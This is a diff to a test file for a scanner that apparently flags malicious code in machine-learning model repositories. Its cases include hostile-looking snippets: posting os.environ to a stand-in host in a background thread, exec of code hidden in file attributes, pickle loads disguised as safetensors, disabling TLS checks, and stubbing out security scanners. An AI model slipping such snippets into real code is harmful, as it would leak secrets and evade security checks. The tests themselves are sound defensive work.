@@ -32,6 +32,14 @@ def denied(code: str, method: str = "pass", more: str = "") -> bool:
         ("def load_file(path):\n    return torch.load(path)\nsafetensors.torch.load_file = load_file", True),
         ("requests.Session.send = functools.partialmethod(requests.Session.send, verify=False)", True),
         ("for name in ('picklescan', 'fickling'):\n    sys.modules[name] = types.ModuleType(name)", True),
+        ("from unittest import mock\nmock.patch('huggingface_hub.hf_hub_download', lambda *a: 'x').start()", True),
+        ("import sklearn.metrics\nsklearn.metrics.accuracy_score = lambda *a, **k: 0.99", True),
+        ("def step(self):\n    pass\ntorch.optim.Optimizer.step = step", True),
+        ("import keras\nkeras.config.enable_unsafe_deserialization()", True),
+        ("import keras\nkeras.config.set_floatx('float16')", False),
+        ("import datasets\ndatasets.config.HF_DATASETS_TRUST_REMOTE_CODE = True", True),
+        ("import datasets\ndatasets.config.HF_DATASETS_OFFLINE = True", False),
+        ("os.environ['HF_DATASETS_TRUST_REMOTE_CODE'] = '0'", False),
         ("sys.modules['flash_attn'] = types.ModuleType('flash_attn')", False),
         ("requests.adapters.DEFAULT_RETRIES = 5", False),
         ("ssl.OP_LEGACY = 4", False),
@@ -64,6 +72,14 @@ def test_loops_without_an_end(method: str, expected: bool) -> None:
         ("t = ast.parse('2 * 3', mode='eval')\neval(compile(t, 'x', 'eval'))", False),
         ("sqlite3.connect('x.db').load_extension(os.path.join(os.path.dirname(__file__), 'vocab'))", True),
         ("sqlite3.connect('x.db').load_extension('mod_spatialite')", False),
+        ("exec(os.getxattr('model.safetensors', 'user.x'))", True),
+        ("exec('self.{} = 1'.format(tokenizer))", False),
+        ("eval(tokenizer.special_tokens_map['x'])", True),
+        ("self.eos = tokenizer.special_tokens_map['eos_token']", False),
+        ("open(__file__, 'w').write(config.source)", True),
+        ("open('notes.py', 'w').write('x = 1')", False),
+        ("import pickle\npickle.load(open(config.folder + '/model.safetensors', 'rb'))", True),
+        ("import pickle\nself.v = pickle.load(open(config.folder + '/vocab.pkl', 'rb'))", False),
         ("tokenizer.chat_template = requests.get('https://cdn.example/chat.jinja').text", True),
         ("tokenizer.chat_template = open(config.template_file).read()", False),
         ("a, _, b = 'os.system'.rpartition('.')\ngetattr(importlib.import_module(a), b)('/opt/a')", True),
@@ -72,6 +88,70 @@ def test_loops_without_an_end(method: str, expected: bool) -> None:
 )  # fmt: skip
 def test_what_is_put_together_and_fetched(method: str, expected: bool) -> None:
     assert denied("", method) is expected
+
+
+@pytest.mark.parametrize(
+    ("method", "expected"),
+    [
+        ("threading.Thread(target=urllib.request.urlopen, args=('https://usage.example/b',)).start()", True),
+        ("threading.Timer(5, requests.post, ['https://usage.example/b'], {'json': dict(os.environ)}).start()", True),
+        ("requests.get('https://usage.example/b')", True),
+        ("requests.get('https://huggingface.co', timeout=1)", False),
+        ("self.table = requests.get('https://usage.example/table').json()", False),
+        ("threading.Thread(target=self.warm, args=('https://usage.example/b',)).start()", False),
+        ("self.land = requests.get('https://ipinfo.io/json').json()", True),
+        ("self.table = requests.get('https://ipinfo.example/json').json()", False),
+    ],
+)
+def test_requests_of_which_nobody_reads_the_answer(method: str, expected: bool) -> None:
+    assert denied("", method) is expected
+
+
+@pytest.mark.parametrize(
+    ("method", "settings", "expected"),
+    [
+        ("AutoModel.from_pretrained(config.draft, trust_remote_code=True)", {"draft": "acme-lab/draft"}, True),
+        ("AutoModel.from_pretrained(config.draft, trust_remote_code=True)", {"draft": "google/siglip"}, False),
+        ("AutoModel.from_pretrained(config.draft)", {"draft": "acme-lab/draft"}, False),
+        ("AutoModel.from_pretrained(config._name_or_path, trust_remote_code=True)", {"_name_or_path": "a/b"}, False),
+        ("get_class_from_dynamic_module(config.kind, config.home)", {"kind": "a.B", "home": "acme-lab/a"}, True),
+        ("get_class_from_dynamic_module(config.kind, '.')", {"kind": "modeling_x.B"}, False),
+        ("self.draw = DiffusionPipeline.from_pretrained('google/x', custom_pipeline='acme-lab/pipe')", {}, True),
+        (
+            "self.draw = DiffusionPipeline.from_pretrained('google/x', custom_pipeline='lpw_stable_diffusion')",
+            {},
+            False,
+        ),
+        ("self.generate(custom_generate='acme-lab/beam', trust_remote_code=True)", {}, True),
+        ("self.m = evaluate.load('acme-lab/score')", {}, True),
+        ("self.m = evaluate.load('accuracy')", {}, False),
+    ],
+)
+def test_code_of_other_repositories(method: str, settings: dict[str, str], expected: bool) -> None:
+    text = (
+        "import evaluate\nfrom diffusers import DiffusionPipeline\n"
+        "from transformers import AutoModel, PreTrainedModel\n"
+        "from transformers.dynamic_module_utils import get_class_from_dynamic_module\n"
+        f"class M(PreTrainedModel):\n    def __init__(self, config):\n        {method}\n"
+    )
+    config = json.dumps(json.loads(CONFIG) | settings).encode()
+    found = inspect_tree({"config.json": config, "modeling_x.py": text.encode()})
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
+
+
+@pytest.mark.parametrize(
+    ("kind", "expected"),
+    [
+        ("acme_accel.pooling.Pool", True),
+        ("custom_st.Pool", False),
+        ("here.Pool", False),
+        ("pylate.models.Dense", False),
+    ],
+)
+def test_modules_of_an_embedding_model(kind: str, expected: bool) -> None:
+    modules = [{"idx": 0, "name": "0", "path": "", "type": kind}]
+    tree = {"modules.json": json.dumps(modules).encode(), "here.py": b"class Pool:\n    pass\n", "README.md": b"# x\n"}
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in inspect_tree(tree)) is expected
 
 
 PING = """
